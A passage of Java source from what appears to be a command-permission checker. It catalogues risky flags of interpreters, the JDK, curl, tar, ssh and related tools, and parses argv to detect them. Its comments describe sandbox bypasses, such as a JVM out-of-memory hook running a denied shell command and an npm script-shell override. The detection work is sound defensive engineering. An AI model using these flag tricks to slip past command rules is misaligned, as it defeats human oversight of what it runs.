                "--experimental-config-file",
                // where the inspector listens once a SIGUSR1 opens it (callers may send one where
                // the
                // connection lists it in exec.signals_allow)
                "--inspect-port",
                "--debug-port")));
    // python(1) reads options only up to the script, -c or -m; what follows is the program's
    // (python3 -m pytest -c pytest.ini). Its only other options with a value are -W and -X.
    tool(
        List.of("python", "pypy"),
        new Tool(
            "python",
            Style.SCRIPT,
            "cmWXQ",
            false,
            Set.of(),
            Set.of("-W", "-X"),
            flags(RUNS, ANYWHERE, "-c", "-m", "-i")));
    tool(
        List.of("perl"),
        new Tool(
            "perl",
            Style.CLUSTERS,
            "eEMmIx",
            false,
            Set.of(),
            Set.of(),
            flags(RUNS, ANYWHERE, "-e", "-E", "-M", "-m", "-I", "-x")));
    tool(
        List.of("ruby"),
        new Tool(
            "ruby",
            Style.CLUSTERS,
            "erIC",
            false,
            Set.of(),
            Set.of(),
            concat(flags(RUNS, ANYWHERE, "-e", "-r", "-I"), List.of(RUBY_CRASH_REPORT))));

    // The JDK's launchers (java(1), javac(1), jshell(1)). HotSpot runs a command line on a fatal
    // error or OutOfMemoryError (-XX:OnError, -XX:OnOutOfMemoryError: `java -XX:MaxHeapSize=3m
    // -XX:OnOutOfMemoryError='sh -c ...' Build.java test` ran a denied command and printed a
    // token), reads more options from files (-XX:Flags, -XX:VMOptionsFile, @argfiles), loads
    // agents and native libraries (-agentlib, -agentpath, -javaagent, -Xrun, -Xdebug's JDWP),
    // classes the caller chooses (-cp and module paths: their META-INF/services providers, such as
    // System.LoggerFinder, run; -Xbootclasspath/a, --patch-module, --upgrade-module-path, the
    // system class loader, a security manager, a logging configuration class, JVMCI compilers),
    // another main (--module=M/C runs M's class with the source file as its argument), and OpenJ9's
    // -Xdump:tool runs a command. Diagnostic and experimental flags are a reviewed set no more:
    // unlocking them is listed. Files written anywhere: error and heap dumps, flight recordings
    // (which hold the environment: jdk.InitialEnvironmentVariable), logs, CDS/AOT archives, CRaC
    // checkpoints (and a restore runs a process image).
    List<Flag> jvm =
        concat(
            flags(
                RUNS,
                ANYWHERE,
                "-XX:OnError",
                "-XX:OnOutOfMemoryError",
                "-XX:+UnlockDiagnosticVMOptions",
                "-XX:+UnlockExperimentalVMOptions",
                "-XX:+EnableJVMCI",
                "-XX:+UseJVMCICompiler",
                "-XX:JVMCILibPath",
                "-XX:CRaCRestoreFrom",
                "-XX:CRaCEngine",
                "-agentlib:*",
                "-agentpath:*",
                "-javaagent:*",
                "-Xrun*",
                "-Xdebug",
                "-Xdump*",
                "-Xbootclasspath*",
                "-Djava.system.class.loader",
                "-Djava.security.manager",
                "-Djava.util.logging.config.class",
                "-Djava.nio.file.spi.DefaultFileSystemProvider",
                "-Djava.library.path",
                "-Djvmci.*"),
            flags(
                CONFIG,
                ANYWHERE,
                "-XX:Flags",
                "-XX:VMOptionsFile",
                "-XX:CompileCommandFile",
                "-Djava.security.properties",
                "-Djava.util.logging.config.file",
                "@*"),
            flags(
                WRITES,
                ANYWHERE,
                "-XX:ErrorFile",
                "-XX:HeapDumpPath",
                "-XX:+HeapDumpOnOutOfMemoryError",
                "-XX:StartFlightRecording",
                "-XX:FlightRecorderOptions",
                "-XX:LogFile",
                "-XX:SharedArchiveFile",
                "-XX:ArchiveClassesAtExit",
                "-XX:AOTCache",
                "-XX:AOTCacheOutput",
                "-XX:AOTConfiguration",
                "-XX:CRaCCheckpointTo",
                "-Xlog*"));
    // where classes (and their META-INF/services providers) come from; each takes the next word
    List<String> classPathOptions =
        List.of(
            "-cp",
            "-classpath",
            "--class-path",
            "-p",
            "--module-path",
            "--upgrade-module-path",
            "--patch-module");
    List<Flag> classPaths = flags(RUNS, ANYWHERE, classPathOptions.toArray(String[]::new));
    // the java launcher's other options that take the next word (java --help)
    Set<String> javaValues =
        Set.copyOf(
            concatNames(
                classPathOptions,
                "--add-modules",
                "--limit-modules",
                "--add-reads",
                "--add-exports",
                "--add-opens",
                "--enable-native-access",
                "--source",
                "-d",
                "--describe-module",
                "-jar",
                "-m",
                "--module"));
    tool(
        List.of("java"),
        new Tool(
            "java",
            Style.JDK,
            "",
            false,
            Set.of(),
            javaValues,
            concat(jvm, classPaths, flags(RUNS, ANYWHERE, "-m", "--module"))));
    // javac: -J passes a JVM option (all of the above); annotation processors and plugins are
    // code, found on the processor path or, without one, the class path; -d/-s/-h write.
    // jshell runs the code it reads, so allowing it is allowing a shell; -J and -R pass JVM
    // options to its two JVMs, --startup and --execution run more.
    List<Flag> compilers =
        concat(
            flags(
                RUNS,
                ANYWHERE,
                "-J*",
                "-processorpath",
                "--processor-path",
                "--processor-module-path",
                "-processor",
                "-Xplugin*",
                "@*"),
            classPaths,
            flags(WRITES, ANYWHERE, "-d", "-s", "-h"));
    tool(List.of("javac"), new Tool("javac", Style.JDK, "", false, Set.of(), Set.of(), compilers));
    tool(
        List.of("jshell"),
        new Tool(
            "jshell",
            Style.JDK,
            "",
            false,
            Set.of(),
            Set.of(),
            flags(
                RUNS,
                ANYWHERE,
                "-J*",
                "-R*",
                "-C*",
                "--startup",
                "--execution",
                "--class-path",
                "--module-path",
                "@*")));

    // curl(1): a config file is more options; the rest write or send local files.
    tool(
        List.of("curl"),
        new Tool(
            "curl",
            Style.CLUSTERS,
            "AbBcCdDeEFHhKmoPQrTtuUwxXYyz",
            false,
            Set.of(),
            Set.of(),
            concat(
                flags(CONFIG, ANYWHERE, "-K", "--config", "--netrc-file"),
                flags(
                    WRITES,
                    ANYWHERE,
                    "-o",
                    "--output",
                    "--output-dir",
                    "-T",
                    "--upload-file",
                    "-D",
                    "--dump-header",
                    "-c",
                    "--cookie-jar",
                    "--trace",
                    "--trace-ascii",
                    "--libcurl",
                    "--stderr"))));
    // man-db man(1): the pager and browser run through sh -c (-P, -H takes its browser only
    // attached), and a configuration file names the programs of the formatting pipeline.
    tool(
        List.of("man"),
        new Tool(
            "man",
            Style.CLUSTERS,
            "CMPrELmSsepR",
            true,
            Set.of(),
            Set.of(),
            concat(
                flags(RUNS, ANYWHERE, "-P", "--pager", "-H", "--html"),
                flags(CONFIG, ANYWHERE, "-C", "--config-file"))));
    // GNU tar(1): programs it runs; -P, and -C with a directory elsewhere (TAR_DIRECTORY), write
    // outside the working directory; file lists name what it reads or extracts (FILE_LIST);
    // --index-file, --volno-file and -g write the files they name. --file is an option of its own,
    // not an abbreviation of --files-from (getopt_long(3): an exact name wins).
    tool(
        List.of("tar", "gtar", "bsdtar"),
        new Tool(
            "tar",
            Style.CLUSTERS,
            "bCfFgHIKLNTVX",
            true,
            Set.of("--checkpoint", "--file"),
            Set.of(),
            concat(
                flags(
                    RUNS,
                    ANYWHERE,
                    "-I",
                    "--use-compress-program",
                    "--to-command",
                    "--checkpoint-action",
                    "-F",
                    "--info-script",
                    "--new-volume-script",
                    "--rsh-command",
                    "--rmt-command"),
                flags(
                    WRITES,
                    ANYWHERE,
                    "-P",
                    "--absolute-names",
                    "--index-file",
                    "--volno-file",
                    "-g",
                    "--listed-incremental"),
                flags(FILE_LIST, ANYWHERE, "-T", "--files-from", "--add-file"),
                // --remove-files deletes each file once archived (GNU tar manual, "Removing
                // Files"; GNU tar 1.34 reads --remove as it): a rule for reading with tar -c
                // would delete what it reads
                flags(DELETES, ANYWHERE, "--remove-files"),
                List.of(TAR_DIRECTORY, TAR_REMOTE_ARCHIVE, TAR_ARCHIVE_OPERAND, TAR_DATE_FILE))));
    tool(
        List.of("rsync"),
        new Tool(
            "rsync",
            Style.CLUSTERS,
            "BefMT",
            true,
            Set.of(),
            Set.of(),
            flags(RUNS, ANYWHERE, "-e", "--rsh", "--rsync-path", "-M", "--remote-option")));
    // ssh(1): -o and -F reach every ssh_config(5) keyword (ProxyCommand, LocalCommand, ...).
    tool(
        List.of("ssh"),
        new Tool(
            "ssh",
            Style.CLUSTERS,
            "BbcDEeFIiJLlmOoPpQRSWw",
            false,
            Set.of(),
            Set.of(),
            concat(
                flags(RUNS, ANYWHERE, "-o", "-F", "-I", "-S"),
                flags(WRITES, ANYWHERE, "-E"),
                flags(TUNNEL, ANYWHERE, "-J", "-L", "-R", "-D", "-W", "-w", "-A", "-X", "-Y"))));
    tool(
        List.of("scp"),
        new Tool(
            "scp",
            Style.CLUSTERS,
            "cDFiJlOoPSX",
            false,
            Set.of(),
            Set.of(),
            concat(flags(RUNS, ANYWHERE, "-S", "-o", "-F"), flags(TUNNEL, ANYWHERE, "-J"))));
    tool(
        List.of("sftp"),
        new Tool(
            "sftp",
            Style.CLUSTERS,
            "BbcDFiJloPRSs",
            false,
            Set.of(),
            Set.of(),
            concat(
                flags(RUNS, ANYWHERE, "-S", "-D", "-o", "-F", "-b"),
                flags(TUNNEL, ANYWHERE, "-J"))));
  }

  private RiskyFlags() {}

  private static void tool(List<String> programs, Tool t) {
    for (String p : programs) {
      BY_PROGRAM.put(p, t);
    }
  }

  private static List<Flag> flags(String why, Set<String> where, String... names) {
    List<Flag> out = new ArrayList<>(names.length);
    for (String n : names) {
      out.add(new Flag(n, why, where));
    }
    return out;
  }

  private static List<String> concatNames(List<String> names, String... more) {
    List<String> out = new ArrayList<>(names);
    out.addAll(List.of(more));
    return out;
  }

  @SafeVarargs
  private static List<Flag> concat(List<Flag>... lists) {
    List<Flag> out = new ArrayList<>();
    for (List<Flag> l : lists) {
      out.addAll(l);
    }
    return List.copyOf(out);
  }

  /** The catalogue entry for {@code binary} (a path or name), or null when it has none. */
  static Tool tool(String binary) {
    return binary == null ? null : BY_PROGRAM.get(CommandWrappers.programName(binary));
  }

  /** Every program name with a catalogue entry, for messages. */
  static Set<String> programs() {
    return new java.util.TreeSet<>(BY_PROGRAM.keySet());
  }

  /** The first risky flag {@code argv} uses, or null. argv[0] is the program. */
  static Use find(String binary, List<String> argv) {
    List<Use> all = findAll(binary, argv);
    return all.isEmpty() ? null : all.get(0);
  }

  /**
   * Every risky flag in {@code argv}, in order: a rule that names one of them must not let the
   * others through ({@code npm install --prefix x --script-shell=evil}).
   */
  static List<Use> findAll(String binary, List<String> argv) {
    return findAll(binary, argv, ProgramOptions.cobraCommandIndex(binary, argv));
  }

  /**
   * {@link #findAll(String, List)} with the cobra command index of argv, {@link
   * ProgramOptions#cobraCommandIndex}, computed once by the caller.
   */
  static List<Use> findAll(String binary, List<String> argv, int command) {
    List<Use> found = new ArrayList<>(2);
    Tool t = tool(binary);
    if (t == null) {
      return found;
    }
    if (t.name().equals("tar")) {
      for (int i = 1; i < argv.size(); i++) {
        if (argv.get(i).length() > 1 && argv.get(i).charAt(0) == '@') {
          found.add(new Use(argv.get(i), TAR_ARCHIVE_OPERAND, t)); // also after --
          break;
        }
      }
    }
    String sub = null;
    List<String> positional = new ArrayList<>(4);
    List<String> before = new ArrayList<>(4); // the values cobra skipped before the command
    // cobra programs: the subcommand is the word cobra runs (ProgramOptions.cobraCommandIndex);
    // the words before it are options and their values, docker's -- included
    // after docker run/create/exec: the next positional word is the image or container
    boolean inContainer = false;
    for (int i = 1; i < argv.size(); i++) {
      String w = argv.get(i);
      if (i < command && (w.length() < 2 || w.charAt(0) != '-')) {
        // a value cobra skipped (kubectl -A get delete: get), which may be the command an option
        // unknown to the index hid: named as the command would be (gh ext is extension)
        before.add(ProgramOptions.cobraCommandName(binary, w));
        continue;
      }
      if (w.equals("--")) {
        if (i < command) {
          continue; // docker -- run: pflag ends the root's options, run is the command
        }
        break;
      }
      boolean oldStyleTar = i == 1 && t.name().equals("tar") && !w.startsWith("-");
      boolean jdk = t.style() == Style.JDK;
      if (jdk && w.length() > 1 && w.charAt(0) == '@') {
        argumentFile(t, w, found);
        continue;
      }
      if (!oldStyleTar && (w.length() < 2 || w.charAt(0) != '-')) {
        if (t.style() == Style.SCRIPT || (jdk && t.name().equals("java"))) {
          return found; // python: the script; the rest is its own argv
        }
        if (i == command) {
          w = ProgramOptions.cobraCommandName(binary, w); // helm ls is list, gh ext is extension
        }
        positional.add(w);
        if (sub == null && (command < 0 || i == command)) {
          sub = w;
        }
        if (inContainer) {
          break; // docker run IMAGE ARGS: w is the image; the rest is the container's command
        }
        inContainer = t.name().equals("docker") && i >= command && dockerRunsContainer(positional);
        continue;
      }
      String word = oldStyleTar ? "-" + w : w;
      List<Flag> inWord = new ArrayList<>(2);
      for (String name : oldStyleTar ? oldStyleNames(w) : names(t, word)) {
        if (name.equals("-e") && t.name().equals("rsync") && argv.contains("--server")) {
          continue; // the receiving side over SSH: -e.LsfxC is protocol information, no shell
        }
        Flag f = match(t, name, sub, positional);
        // Every risky flag of the word, once: a cluster can hold two (python -ic CODE).
        if (f != null && !inWord.contains(f)) {
          inWord.add(f);
          found.add(new Use(w, f, t));
        }
      }
      String defined = definedProperty(t, word, i + 1 < argv.size() ? argv.get(i + 1) : null);
      Flag definedFlag = defined == null ? null : match(t, "-D" + nameOf(defined), sub, positional);
      if (definedFlag != null && !inWord.contains(definedFlag)) {
        found.add(new Use(w, definedFlag, t));
      }
      if (t.name().equals("kubectl")
          && kubectlFileOutput(word, i + 1 < argv.size() ? argv.get(i + 1) : null)) {
        found.add(new Use(w, KUBECTL_FILE_OUTPUT, t));
      }
      if (t.name().equals("docker") && sub != null) {
        Flag host = dockerHostValue(t, word, i + 1 < argv.size() ? argv.get(i + 1) : null);
        if (host != null && applies(host, sub, positional) && !inWord.contains(host)) {
          found.add(new Use(w, host, t));
        }
      }
      if (t.name().equals("ruby")
          && rubyLongOption("crash-report", word)
          && !inWord.contains(RUBY_CRASH_REPORT)) {
        found.add(new Use(w, RUBY_CRASH_REPORT, t));
      }
      if (t.name().equals("tar")) {
        String dir =
            oldStyleTar
                ? oldStyleValue(t, argv, 'C')
                : tarDirectory(t, word, i + 1 < argv.size() ? argv.get(i + 1) : null);
        if (dir != null && leavesWorkdir(dir) && !inWord.contains(TAR_DIRECTORY)) {
          found.add(new Use(w, TAR_DIRECTORY, t));
        }
        String archive =
            oldStyleTar
                ? oldStyleValue(t, argv, 'f')
                : tarArchive(t, word, i + 1 < argv.size() ? argv.get(i + 1) : null);
        if (archive != null
            && remoteArchive(archive)
            && !argv.contains("--force-local")
            && found.stream().noneMatch(u -> u.flag() == TAR_REMOTE_ARCHIVE)) {
          found.add(new Use(w, TAR_REMOTE_ARCHIVE, t));
        }
        String next = i + 1 < argv.size() ? argv.get(i + 1) : null;
        if ((oldStyleTar
                ? dateFile(oldStyleValue(t, argv, 'N'), false)
                : tarDateFile(t, word, next))
            && found.stream().noneMatch(u -> u.flag() == TAR_DATE_FILE)) {
          found.add(new Use(w, TAR_DATE_FILE, t));
        }
      }
      if (t.style() == Style.SCRIPT && endsOptions(t, word)) {
        return found; // python -c CODE / -m MODULE: the rest is the program's
      }
      if (jdk && t.name().equals("java") && ProgramOptions.javaEndsOptions(word)) {
        if (word.indexOf('=') < 0 && i + 1 < argv.size() && argv.get(i + 1).startsWith("@")) {
          argumentFile(t, argv.get(i + 1), found); // the launcher expands it before -jar reads it
        }
        return found; // java -jar APP / -m MODULE: the rest is the program's
      }
      if ((inContainer && dockerRunTakesNext(word, positional.get(0).equals("compose"))
              || t.name().equals("docker") && composeTakesNext(positional, word)
              || t.name().equals("gh") && ghConfigHost(positional, word))
          && i + 1 < argv.size()
          && !argv.get(i + 1).startsWith("-")) {
        // the option's value, not the image, the service or a setting's key (a value that looks
        // like an option is still read as one: finding more is the safe side)
        i++;
        continue;
      }
      if ((sub == null || t.style() == Style.SCRIPT || jdk)
          && word.indexOf('=') < 0
          && t.globalValues().contains(word)
          && i + 1 != command) {
        i++; // git -C DIR, python -W arg: the value is not the subcommand or the script
        if (jdk && i < argv.size() && argv.get(i).startsWith("@")) {
          argumentFile(t, argv.get(i), found); // java -cp @file: expanded before -cp reads it
        }
      }
    }
    riskyCommands(t, before, positional, found);
    return found;
  }

  /**
   * Whether {@code words} (after gh's {@code config}) are {@code set KEY VALUE} with a key of
   * {@link #GH_HARMLESS_SETTINGS}: exactly those three words ({@code config set} takes exactly two
   * arguments; a {@code -h HOST} written as two words leaves its host among them, so that form is
   * risky, as is any other reading).
   */
  private static boolean harmlessGhSetting(List<String> words) {
    return words.size() == 3
        && words.get(0).equals("set")
        && GH_HARMLESS_SETTINGS.contains(words.get(1));
  }

  /**
   * gh's {@code config} commands ({@code get}, {@code set}, {@code list}) read {@code -h} as {@code
   * --host HOST} (gh config set --help), not as help: its value is a host, not the setting's key.
   */
  private static boolean ghConfigHost(List<String> positional, String word) {
    return !positional.isEmpty()
        && positional.get(0).equals("config")
        && (word.equals("-h") || word.equals("--host"));
  }

  /**
   * docker's commands that run a container: after their options, the image (run, create) or the
   * container (exec), then the command and arguments for the container. They parse with {@code
   * flags.SetInterspersed(false)} (docker/cli cli/command/container/run.go, create.go, exec.go), so
   * {@code docker run IMAGE --privileged} passes {@code --privileged} to the container's command;
   * it gives docker nothing. {@code docker compose run} and {@code exec} read theirs so too (after
   * the service, docker/compose cmd/compose/run.go, exec.go): {@link #COMPOSE_RUNS}.
   */
  private static final Set<String> DOCKER_RUNS = Set.of("run", "create", "exec");

  /** docker compose's commands that run a command in a service's container: SERVICE COMMAND... */
  private static final Set<String> COMPOSE_RUNS = Set.of("run", "exec");

  /**
   * docker compose's own options that take a value, before its command (docker compose --help):
   * {@code docker compose -f x.yml run SVC}; the value is not the command.
   */
  private static final Set<String> COMPOSE_VALUES =
      Set.of(
          "-f",
          "--file",
          "-p",
          "--project-name",
          "--profile",
          "--env-file",
          "--project-directory",
          "--ansi",
          "--progress",
          "--parallel");

  /**
   * Whether {@code word} is an option of docker compose, before its command, with its value next.
   */
  private static boolean composeTakesNext(List<String> positional, String word) {
    return positional.size() == 1
        && positional.get(0).equals("compose")
        && COMPOSE_VALUES.contains(word);
  }

  /**
   * The options of docker compose run and exec that take no value, beyond docker run's (docker
   * compose run --help, exec --help: -T/--no-TTY, --no-deps, --service-ports...).
   */
  private static final Set<String> COMPOSE_RUN_BOOLEANS =
      Set.of(
          "--build",
          "--no-deps",
          "--no-tty",
          "--quiet-build",
          "--quiet-pull",
          "--remove-orphans",
          "--service-ports",
          "--use-aliases");

  /**
   * The options of docker run, create and exec that take no value (docker run --help, docker 28):
   * every other option takes one (the next word unless written with {@code =}). Only options known
   * to be booleans are listed: one listed by mistake would make its value look like the image, and
   * the flags after it go unread.
   */
  private static final Set<String> DOCKER_RUN_BOOLEANS =
      Set.of(
          "--detach",
          "--disable-content-trust",
          "--help",
          "--init",
          "--interactive",
          "--no-healthcheck",
          "--oom-kill-disable",
          "--privileged",
          "--publish-all",
          "--quiet",
          "--read-only",
          "--rm",
          "--sig-proxy",
          "--tty",
          "--use-api-socket");

  /** The shorthand booleans of docker run, create and exec: -d, -i, -t, -P, -q. */
  private static final String DOCKER_RUN_BOOLEAN_LETTERS = "ditPq";

  /**
   * Whether the positional words so far are docker's run, create or exec command, or docker
   * compose's run or exec.
   */
  private static boolean dockerRunsContainer(List<String> positional) {
    return switch (positional.size()) {
      case 1 -> DOCKER_RUNS.contains(positional.get(0));
      case 2 ->
          positional.get(0).equals("container") && DOCKER_RUNS.contains(positional.get(1))
              || positional.get(0).equals("compose") && COMPOSE_RUNS.contains(positional.get(1));
      default -> false;
    };
  }

  /**
   * Whether an option of docker run, create or exec ({@code compose}: of docker compose run or
   * exec) takes the next word as its value (pflag: a long option without {@code =} that is no
   * boolean; a cluster of shorthands whose first letter that is no boolean comes last).
   */
  static boolean dockerRunTakesNext(String word, boolean compose) {
    if (word.startsWith("--")) {
      String name = word.toLowerCase(java.util.Locale.ROOT);
      return word.indexOf('=') < 0
          && !DOCKER_RUN_BOOLEANS.contains(name)
          && !(compose && COMPOSE_RUN_BOOLEANS.contains(name));
    }
    for (int j = 1; j < word.length(); j++) {
      char c = word.charAt(j);
      if (DOCKER_RUN_BOOLEAN_LETTERS.indexOf(c) < 0 && !(compose && c == 'T')) {
        return j == word.length() - 1; // -e NAME, -itv SRC:DST; -eX and -e=X hold their value
      }
    }
    return false;
  }

  /**
   * Subcommands that install or run code (catalogue entries named {@code "COMMAND SUBCOMMAND"}:
   * helm's and docker's {@code plugin install}, gh's {@code extension install}, docker's {@code
   * container cp}): found when the command is a word before the second one (erring towards finding:
   * a flag's value may stand between them). The command is looked for among the words before the
   * subcommand too, as an option the index does not know as a boolean may have hidden it as its
   * value ({@code helm --unknown-bool plugin install URL}), and in every spelling of the command
   * ({@link ProgramOptions#cobraSpellings}: {@code helm plugin add} is {@code plugin install},
   * {@code docker cp} {@code container cp}). And gh's {@code alias set} with an expansion starting
   * with {@code !} (a shell alias as with {@code --shell}) or {@code -} (read from stdin, which may
   * be one).
   */
  private static void riskyCommands(
      Tool t, List<String> before, List<String> positional, List<Use> found) {
    List<String> spelled = ProgramOptions.cobraSpellings(t.name(), positional);
    List<String> words = new ArrayList<>(before.size() + spelled.size());
    words.addAll(before);
    words.addAll(spelled);
    // the command words: those before the subcommand and its spellings, up to the command itself
    int commands = Math.min(words.size(), before.size() + spelled.size() - positional.size() + 1);
    Map<String, Integer> last = new HashMap<>();
    for (int k = 0; k < words.size(); k++) {
      last.put(words.get(k), k);
    }
    for (int k = 0; k < commands; k++) {
      String command = words.get(k);
      for (Flag f : t.flags()) {
        int space = f.name().indexOf(' ');
        if (space > 0
            && f.where().contains(command)
            && last.getOrDefault(f.name().substring(space + 1), -1) > k
            && found.stream().noneMatch(u -> u.flag() == f)
            && !(f == GH_CONFIG_SET && harmlessGhSetting(words.subList(k + 1, words.size())))) {
          found.add(new Use(String.join(" ", command, f.name().substring(space + 1)), f, t));
        }
      }
      if (t.name().equals("gh")
          && command.equals("alias")
          && last.getOrDefault("set", -1) > k
          && found.stream().noneMatch(u -> u.flag() == GH_SHELL_ALIAS)) {
        for (String w : words.subList(k + 1, words.size())) {
          if (w.startsWith("!") || w.equals("-")) {
            found.add(new Use(w.equals("-") ? "-" : "!", GH_SHELL_ALIAS, t));
            break;
          }
        }
      }
    }
  }

  /**
   * The {@link #DOCKER_HOST_VALUES} entry that {@code word} (with {@code next} the word after it)
   * uses, or null: {@code --network host} ({@code --net}, {@code --pid}, {@code --ipc}, {@code
   * --uts}, {@code --userns}, {@code --cgroupns}; pflag reads {@code --name value} and {@code
   * --name=value}); {@code -v}/{@code --volume} with a source that is not a volume name (docker
   * reads a source that is not {@code [a-zA-Z0-9][a-zA-Z0-9_.-]*} as a host path); a {@code
   * --mount} other than a volume (without driver options: {@code volume-opt=o=bind} binds a host
   * path too) or tmpfs.
   */
  static Flag dockerHostValue(Tool t, String word, String next) {
    for (String ns : List.of("network", "net", "pid", "ipc", "uts", "userns", "cgroupns")) {
      String v = optionValue(t, word, next, "--" + ns, (char) 0);
      if (v != null && v.equalsIgnoreCase("host")) { // erring towards finding: HOST
        String name = "--" + (ns.equals("net") ? "network" : ns) + "=host";
        return DOCKER_HOST_VALUES.stream().filter(f -> f.name().equals(name)).findFirst().get();
      }
    }
    Flag bind = DOCKER_HOST_VALUES.get(DOCKER_HOST_VALUES.size() - 1);
    String volume = optionValue(t, word, next, "--volume", 'v');
    if (volume != null) {
      int colon = volume.indexOf(':');
      String source = colon < 0 ? "" : volume.substring(0, colon);
      return colon >= 0 && !source.matches("[a-zA-Z0-9][a-zA-Z0-9_.-]*") ? bind : null;
    }
    String mount = optionValue(t, word, next, "--mount", (char) 0);
    if (mount != null) {
      String m = mount.toLowerCase(java.util.Locale.ROOT);
      boolean tmpfs = m.contains("type=tmpfs");
      boolean plainVolume =
          (!m.contains("type=") || m.contains("type=volume"))
              && !m.contains("volume-opt")
              && !m.contains("volume-driver")
              && !m.contains("bind");
      return tmpfs || plainVolume ? null : bind;
    }
    return null;
  }

  /**
   * The value {@code word} gives option {@code longName} (or its one-letter form {@code letter}, 0
   * for none), with {@code next} the word after it, or null when the word is not that option:
   * {@code --name=V}, {@code --name V}, {@code -xV}, {@code -x=V}, {@code -x V}, also at the end of
   * a cluster of letters that take no value ({@code -itv V}; pflag reads shorthands so).
   */
  private static String optionValue(
      Tool t, String word, String next, String longName, char letter) {
    if (word.equals(longName)) {
      return next;
    }
    if (word.startsWith(longName + "=")) {
      return word.substring(longName.length() + 1);
    }
    if (letter == 0 || word.startsWith("--")) {
      return null;
    }
    for (int j = 1; j < word.length(); j++) {
      char c = word.charAt(j);
      if (t.valueLetters().indexOf(c) >= 0) {
        if (c != letter) {
          return null;
        }
        String value = j == word.length() - 1 ? next : word.substring(j + 1);
        return value != null && value.startsWith("=") ? value.substring(1) : value;
      }
    }
    return null;
  }

  /**
   * Whether ruby reads {@code word} as its long option {@code name}: ruby.c {@code name_match_p},
   * which takes any prefix of each {@code -}/{@code _} separated segment, in any case ({@code
   * --crash}, {@code --c-r}, {@code --CRASH_REPORT}). Options earlier in ruby's own list win a tie
   * ({@code --c} is {@code --copyright}); erring towards finding, they are not looked at.
   */
  static boolean rubyLongOption(String name, String word) {
    if (!word.startsWith("--")) {
      return false;
    }
    int eq = word.indexOf('=');
    String str =
        (eq < 0 ? word.substring(2) : word.substring(2, eq)).toLowerCase(java.util.Locale.ROOT);
    int n = 0;
    int s = 0;
    if (str.isEmpty()) {
      return false;
    }
    while (true) {
      while (s < str.length() && n < name.length() && str.charAt(s) == name.charAt(n)) {
        s++;
        n++;
      }
      if (s == str.length()) {
        return true;
      }
      char c = str.charAt(s);
      if (c != '-' && c != '_') {
        return false;
      }
      while (n < name.length() && Character.isLetterOrDigit(name.charAt(n))) {
        n++;
      }
      if (n == name.length() || (name.charAt(n) != '-' && name.charAt(n) != '_')) {
        return false;
      }
      n++;
      s++;
      if (s == str.length()) {
        return true;
      }
    }
  }

  /**
   * The directory {@code word} gives tar's {@code -C}/{@code --directory} ({@code next} the word
   * after it), or null; also {@code --one-top-level=DIR}. GNU tar reads long options with
   * getopt_long(3): any unambiguous prefix ({@code --dir}, {@code --direc}; {@code --di} is
   * ambiguous with {@code --diff}).
   */
  private static String tarDirectory(Tool t, String word, String next) {
    String v = optionValue(t, word, next, "--directory", 'C');
    if (v != null || !word.startsWith("--")) {
      return v;
    }
    int eq = word.indexOf('=');
    String name = eq < 0 ? word : word.substring(0, eq);
    // read as the catalogue's names are (same: unique prefixes, case, _ for -), erring towards
    // finding where GNU tar would call a short prefix ambiguous; --cd is bsdtar's spelling
    if (same(t, "--directory", name) || same(t, "--cd", name)) {
      return eq < 0 ? next : word.substring(eq + 1);
    }
    // --one-top-level[=DIR] extracts into DIR, an absolute one too (checked with GNU tar 1.34);
    // its value is optional, so only attached
    if (eq >= 0 && same(t, "--one-top-level", name)) {
      return word.substring(eq + 1);
    }
    return null;
  }

  /**
   * The archive {@code word} names with tar's {@code -f}/{@code --file} ({@code next} the word
   * after it), or null; a long prefix such as {@code --fil} is read as {@code --file} too (GNU tar
   * calls it ambiguous with {@code --files-from}: erring towards finding).
   */
  private static String tarArchive(Tool t, String word, String next) {
    String v = optionValue(t, word, next, "--file", 'f');
    if (v != null || !word.startsWith("--")) {
      return v;
    }
    int eq = word.indexOf('=');
    String name = (eq < 0 ? word : word.substring(0, eq)).toLowerCase(java.util.Locale.ROOT);
    if (name.length() >= 4 && "--file".startsWith(name)) {
      return eq < 0 ? next : word.substring(eq + 1);
    }
    return null;
  }

  /** bsdtar's options whose value is always a file whose date is read ({@link #TAR_DATE_FILE}). */
  private static final List<String> BSDTAR_DATE_FILES =
      List.of("--newer-than", "--newer-mtime-than", "--older-than", "--older-mtime-than");

  /** GNU tar's options whose value is a date, or a file when it starts with / or . */
  private static final List<String> GNU_TAR_DATES =
      List.of("--newer", "--newer-mtime", "--after-date");

  /**
   * Whether {@code word} ({@code next} the word after it) gives tar a file outside the working
   * directory to read a date from ({@link #TAR_DATE_FILE}): {@code -N VALUE} (also in a cluster),
   * GNU's long options by any prefix, read as the catalogue's names are ({@link #same}), bsdtar's
   * first ({@code --newer-m} may be either: erring towards finding).
   */
  private static boolean tarDateFile(Tool t, String word, String next) {
    String v = optionValue(t, word, next, "--newer", 'N');
    if (v != null) {
      return dateFile(v, false);
    }
    if (!word.startsWith("--")) {
      return false;
    }
    int eq = word.indexOf('=');
    String name = eq < 0 ? word : word.substring(0, eq);
    String value = eq < 0 ? next : word.substring(eq + 1);
    for (String bsd : BSDTAR_DATE_FILES) {
      if (same(t, bsd, name)) {
        return dateFile(value, true);
      }
    }
    for (String gnu : GNU_TAR_DATES) {
      if (same(t, gnu, name)) {
        return dateFile(value, false);
      }
    }
    return false;
  }

  /**
   * Whether a date option's value is a file outside the working directory: GNU tar reads one
   * starting with {@code /} or {@code .} as a file (tar.c {@code get_date_or_file}), bsdtar's
   * {@code --*-than} any value ({@code alwaysFile}).
   */
  private static boolean dateFile(String value, boolean alwaysFile) {
    if (value == null || value.isEmpty()) {
      return false;
    }
    boolean file = alwaysFile || value.startsWith("/") || value.startsWith(".");
    return file && leavesWorkdir(value);
  }

  /**
   * Whether GNU tar reads archive name {@code name} as HOST:FILE: a colon that is not its first
   * character, with no {@code /} before it (rtapelib.c {@code _remdev}).
   */
  static boolean remoteArchive(String name) {
    int colon = name.indexOf(':');
    return colon > 0 && name.lastIndexOf('/', colon) < 0;
  }

  /**
   * The options old-style tar's first word holds: every letter, those that take a value included
   * ({@code tar cfT x.tar list} is {@code -c -f x.tar -T list}; tar(1) "Old option style"), where a
   * getopt cluster would end at the first letter that takes a value.
   */
  private static List<String> oldStyleNames(String cluster) {
    Set<String> out = new LinkedHashSet<>();
    for (int j = 0; j < cluster.length(); j++) {
      out.add("-" + cluster.charAt(j));
    }
    return List.copyOf(out);
  }

  /**
   * The value old-style tar's first word gives {@code letter} ({@code tar xCf / x.tar}: each letter
   * that takes a value takes the next word, in order; tar(1) "Old option style"), or null.
   */
  private static String oldStyleValue(Tool t, List<String> argv, char letter) {
    String cluster = argv.get(1);
    int next = 2;
